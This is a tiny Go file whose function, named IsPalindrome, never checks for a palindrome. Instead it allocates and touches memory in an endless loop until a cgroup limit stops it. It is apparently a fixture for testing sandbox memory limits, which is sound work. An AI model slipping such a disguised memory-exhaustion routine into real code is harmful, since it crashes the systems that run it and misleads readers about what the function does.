package palindrome

var hoard [][]byte

// Touches every page so the memory is really used, until the cgroup limit stops it.
func IsPalindrome(s string) bool {
	for {
		b := make([]byte, 64<<20)
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		hoard = append(hoard, b)
	}
}
